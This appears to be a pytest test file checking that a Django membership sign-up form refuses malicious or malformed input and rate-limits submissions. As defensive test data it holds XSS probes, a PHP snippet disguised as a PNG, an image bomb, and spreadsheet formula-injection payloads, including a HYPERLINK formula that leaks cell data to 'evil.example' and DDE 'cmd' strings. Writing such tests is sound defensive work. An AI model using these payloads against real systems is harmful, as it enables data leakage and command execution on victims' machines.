"""Asking to join: bad input is refused with a clear message and creates nothing."""

import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from icnk.models import OutboundEmail
from members.models import JoinRequest
from tests.factories import png_bytes

pytestmark = pytest.mark.django_db

URL = "/en/join/"


def post(client, data, **files):
    return client.post(URL, {**data, **files})


def assert_refused(response, message):
    assert response.status_code == 400
    assert message in response.content.decode()
    assert JoinRequest.objects.count() == 0
    assert OutboundEmail.objects.count() == 0


def test_join_page_shows_both_paths_objectives_and_privacy_notice(client, site_settings):
    html = client.get(URL).content.decode()
    assert "As an organization" in html and "As an individual supporter" in html
    assert site_settings.objectives_en.split("\n")[0][:60] in html
    assert "Who sees it:" in html and "For how long:" in html
    html = client.get("/ja/join/?as=individual").content.decode()
    assert 'name="display_name"' in html


def test_valid_organization_request_is_stored_unverified_and_a_link_is_queued(
    client, site_settings, org_data
):
    response = post(client, org_data, logo=SimpleUploadedFile("logo.png", png_bytes()))
    assert response.status_code == 302
    assert response["Location"] == "/en/join/sent/"
    join_request = JoinRequest.objects.get()
    assert join_request.status == JoinRequest.Status.UNVERIFIED
    assert join_request.local_name == "북한인권시민연합"
    assert (
        join_request.logo.name.startswith("join-logos/")
        and "logo" not in join_request.logo.name.split("/")[1]
    )
    email = OutboundEmail.objects.get()
    assert email.to == "minji@nkhr.example.org"
    assert "/en/join/confirm/" in email.body
    sent_page = client.get(response["Location"]).content.decode()
    assert "m•••@nkhr.example.org" in sent_page
    assert "minji@nkhr.example.org" not in sent_page


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("name", "", "This field is required."),
        ("email", "", "This field is required."),
        ("email", "not-an-email", "Enter a valid email address."),
        ("website", "javascript:alert(1)", "Enter a valid URL."),
        ("website", "not a url", "Enter a valid URL."),
        ("accept_objectives", "", "Please confirm that you support the objectives."),
        ("name", "x" * 201, "Ensure this value has at most 200 characters"),
        ("description", "x" * 2001, "Ensure this value has at most 2000 characters"),
    ],
)
def test_bad_organization_input_is_refused_with_a_message(
    client, site_settings, org_data, field, value, message
):
    assert_refused(post(client, {**org_data, field: value}), message)


def test_every_text_field_with_a_script_tag_is_refused(client, site_settings, org_data):
    text_fields = ["name", "local_name", "description", "contact_name", "contact_role", "phone",
                   "support_statement"]  # fmt: skip
    data = {**org_data, **dict.fromkeys(text_fields, "<script>alert(1)</script>")}
    response = post(client, data)
    assert_refused(response, "HTML tags such as &lt;script&gt; are not allowed")
    html = response.content.decode()
    assert "<script>alert(1)</script>" not in html
    assert html.count("HTML tags such as &lt;script&gt; are not allowed") == len(text_fields)


def test_text_that_is_not_an_image_renamed_png_is_refused(client, site_settings, org_data):
    fake = SimpleUploadedFile("logo.png", b"<?php echo 'hello'; ?>" * 20, "image/png")
    assert_refused(post(client, org_data, logo=fake), "This file is not an image we can read.")


def test_an_enormous_png_is_refused_without_being_decoded(client, site_settings, org_data):
    out = io.BytesIO()
    Image.new("1", (20000, 20000)).save(out, "PNG")  # tiny file, 400 million pixels
    upload = SimpleUploadedFile("huge.png", out.getvalue(), "image/png")
    response = post(client, org_data, logo=upload)
    assert response.status_code == 400
    html = response.content.decode()
    assert "too large to process safely" in html or "20000×20000 pixels" in html
    assert JoinRequest.objects.count() == 0


def test_a_10_mb_upload_is_refused(client, site_settings, org_data):
    big = SimpleUploadedFile("big.png", png_bytes()[:64] + b"\0" * (10 * 1024 * 1024))
    assert_refused(post(client, org_data, logo=big), "the limit is 2.0")


def test_uploaded_logo_is_re_encoded_without_metadata(client, site_settings, org_data):
    out = io.BytesIO()
    image = Image.new("RGB", (64, 64), (10, 20, 30))
    exif = Image.Exif()
    exif[0x010F] = "SecretCameraMaker"  # Make
    image.save(out, "JPEG", exif=exif.tobytes())
    assert b"SecretCameraMaker" in out.getvalue()
    post(client, org_data, logo=SimpleUploadedFile("me.jpg", out.getvalue(), "image/jpeg"))
    stored = JoinRequest.objects.get().logo.read()
    assert stored.startswith(b"\xff\xd8") and b"SecretCameraMaker" not in stored


def test_filled_honeypot_creates_nothing(client, site_settings, org_data):
    assert_refused(
        post(client, {**org_data, "fax_number": "+1 555 0100"}), "This request could not be sent."
    )


def test_sixth_submission_in_an_hour_gets_a_readable_429(client, site_settings, person_data):
    for n in range(5):
        response = post(client, {**person_data, "email": f"person{n}@example.org"})
        assert response.status_code == 302
    response = post(client, {**person_data, "email": "person6@example.org"})
    assert response.status_code == 429
    assert "Too many requests from your connection" in response.content.decode()
    assert response["Retry-After"] == "3600"
    assert JoinRequest.objects.count() == 5


def test_rate_limit_is_per_client_address_and_ignores_forged_forwarded_for(
    client, site_settings, person_data
):
    for n in range(5):
        post(client, {**person_data, "email": f"p{n}@example.org"})
    # No proxy is configured: a forged header does not buy a fresh allowance.
    response = client.post(
        URL, {**person_data, "email": "p9@example.org"}, REMOTE_ADDR="127.0.0.1",
        HTTP_X_FORWARDED_FOR="203.0.113.9",
    )  # fmt: skip
    assert response.status_code == 429
    other = client.post(URL, {**person_data, "email": "p10@example.org"}, REMOTE_ADDR="10.1.2.3")
    assert other.status_code == 302


def test_extra_posted_fields_are_ignored(client, site_settings, person_data):
    post(client, {**person_data, "status": "approved", "decided_by": "1", "organization": "1"})
    join_request = JoinRequest.objects.get()
    assert join_request.status == JoinRequest.Status.UNVERIFIED
    assert join_request.decided_by is None and join_request.organization is None


@pytest.mark.parametrize("lang", ["en", "ko", "ja"])
def test_join_form_renders_in_each_language(
    client, site_settings, lang, django_assert_max_num_queries
):
    client.get(f"/{lang}/join/")
    with django_assert_max_num_queries(4):
        response = client.get(f"/{lang}/join/")
    assert response.status_code == 200
    assert response["Cache-Control"].startswith("max-age=0")


@pytest.mark.parametrize(
    "field",
    ["name", "local_name", "description", "contact_name", "contact_role", "support_statement"],
)
@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]
)
def test_text_a_spreadsheet_would_run_is_refused(client, site_settings, org_data, field, value):
    response = post(client, {**org_data, field: value})
    assert_refused(response, "Please start with a letter or a digit, not with =, +, - or @.")


def test_an_individual_cannot_start_a_name_with_a_formula(client, site_settings, person_data):
    for field in ("name", "display_name", "affiliation"):
        response = post(client, {**person_data, field: "-2+3+cmd|' /C calc'!A0"})
        assert_refused(response, "not with =, +, - or @")


def test_an_address_no_mail_can_reach_is_refused(client, site_settings, person_data):
    response = post(client, {**person_data, "email": "ſun@example.org"})
    assert_refused(response, "Mail cannot be sent to this address: “ſ” cannot be used before")


def test_a_phone_number_may_start_with_a_plus(client, site_settings, org_data):
    assert post(client, {**org_data, "phone": "+82 2 1234 5678"}).status_code == 302


def country_options(html):
    select = re.search(r'<select name="country"[^>]*>(.*?)</select>', html, re.S).group(1)
    return [text.strip() for text in re.findall(r"<option[^>]*>([^<]*)</option>", select)]


@pytest.mark.parametrize(
    ("path", "in_order"),
    [
        ("/en/join/", ["Afghanistan", "Åland Islands", "Albania", "Japan", "South Korea"]),
        # Korean: Hangul dictionary order, 가 before 나 … 하.
        ("/ko/join/", ["가나", "나이지리아", "미국", "일본", "한국"]),
        # Japanese: katakana names in gojūon order, then names written in kanji.
        ("/ja/join/", ["アイルランド", "アメリカ合衆国", "イギリス", "日本", "韓国"]),
        ("/ko/join/?as=individual", ["가나", "나이지리아", "미국", "일본", "한국"]),
    ],
)
def test_country_select_is_in_the_readers_alphabetical_order(client, site_settings, path, in_order):
    options = country_options(client.get(path).content.decode())
    assert options[0] != in_order[0]  # "International" or the empty choice stays first
    positions = [options.index(name) for name in in_order]
    assert positions == sorted(positions)
    named = options[1:]
    if path.startswith("/ko/"):
        assert named == sorted(named)
